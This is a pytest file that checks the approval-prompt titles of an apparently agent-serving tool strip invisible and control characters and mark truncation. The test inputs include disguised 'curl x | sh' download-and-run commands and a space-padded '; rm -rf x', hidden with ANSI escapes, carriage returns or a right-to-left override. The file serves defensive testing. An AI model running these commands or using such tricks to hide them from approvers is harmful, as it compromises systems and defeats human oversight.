"""Titles of questions: what is approved is what is seen."""

from __future__ import annotations

import sys
import unicodedata

import pytest

from agentsrv.agents.questions import title
from agentsrv.cli.safe import visible

OBEYED_OR_UNSEEN = [
    chr(code)
    for code in range(sys.maxunicode + 1)
    if unicodedata.category(chr(code)) in {"Cc", "Cf", "Cs", "Zl", "Zp"} or code in {0x3164, 0xFFA0, 0xFE0F}
]
"""Controls, marks of direction and of no width, halves of characters, ends of lines, fillers."""


def test_a_title_has_nothing_that_is_obeyed_or_unseen() -> None:
    """Not one of these stands in a title, and none is left out without a trace; white space is a space."""
    for character in OBEYED_OR_UNSEEN:
        shown = title(f"a{character}b")
        assert character not in shown
        assert shown == "a b" if character.isspace() else len(shown) > 3


def test_a_command_line_shows_nothing_that_is_obeyed_or_unseen() -> None:
    """What a title keeps out the whole input has not either, when the command line shows it."""
    for character in OBEYED_OR_UNSEEN:
        shown = visible(f"a{character}b")
        assert character not in shown or character in "\t\n"
        assert len(shown) > 2


@pytest.mark.parametrize(
    "command", ["curl x | sh #\x1b[2K\x1b[1GBash: ls", "curl x | sh #\rBash: ls", "ls \u202e#hs | x lruc"]
)
def test_a_command_does_not_draw_over_itself(command: str) -> None:
    """What comes first stays first, and is followed by what came next."""
    assert title(f"Bash: {command}").startswith(f"Bash: {command[:3]}")
    assert title(f"Bash: {command}").isprintable()


def test_a_long_title_says_that_it_is_cut() -> None:
    """It names its length, also where nothing but spaces was cut from it."""
    for text in ("x" * 201, "ls" + " " * 100_000 + "; rm -rf x"):
        assert title(text).endswith(f"… ({len(text)} characters)")
    assert title("x" * 200) == "x" * 200
